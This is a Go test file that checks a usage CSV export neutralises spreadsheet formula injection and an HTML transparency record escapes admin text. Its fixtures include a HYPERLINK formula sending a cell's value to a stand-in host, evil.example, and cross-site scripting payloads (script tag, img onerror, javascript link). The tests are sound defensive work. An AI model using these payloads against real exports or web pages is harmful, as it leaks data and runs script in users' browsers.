package insight_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/civitas-eu/civitas/internal/insight"
)

// TestUsageCSVNeutralisesFormulaKeys: a collection name is chosen by a
// knowledge manager (a metadata change creates it), a model name by an
// admin: neither runs as a formula in the spreadsheet an admin opens.
func TestUsageCSVNeutralisesFormulaKeys(t *testing.T) {
	for _, key := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"} {
		u := insight.Usage{Collections: []insight.Row{{Key: key}}, Models: []insight.Row{{Key: key}}}
		var buf bytes.Buffer
		if err := u.WriteCSV(&buf); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%q: the export is no CSV: %v", key, err)
		}
		for _, row := range rows[1:] {
			if c := row[1]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("key %q exported as %q: a spreadsheet would run it", key, c)
			}
		}
	}
}

// TestTransparencyHTMLEscapesAdminText: the published record carries the
// admin's free text (and collection and model names) as text, never as
// markup or a link.
func TestTransparencyHTMLEscapesAdminText(t *testing.T) {
	evil := `<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>`
	fields := map[string]string{}
	for _, f := range insight.FieldNames() {
		fields[f] = evil
	}
	rec := insight.Record{Fields: fields, Models: []insight.ModelFacts{{Role: "chat", Name: evil, Digest: evil}},
		Collections: []insight.CollectionFacts{{Name: evil}}, Risks: []insight.Risk{}}
	var buf bytes.Buffer
	if err := rec.WriteHTML(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, bad := range []string{"<script>alert", "<img", `<a href="javascript:`} {
		if strings.Contains(out, bad) {
			t.Errorf("the record's HTML holds %q unescaped", bad)
		}
	}
	if !strings.Contains(out, "&lt;script&gt;") {
		t.Error("the admin's text is not in the record at all")
	}
}
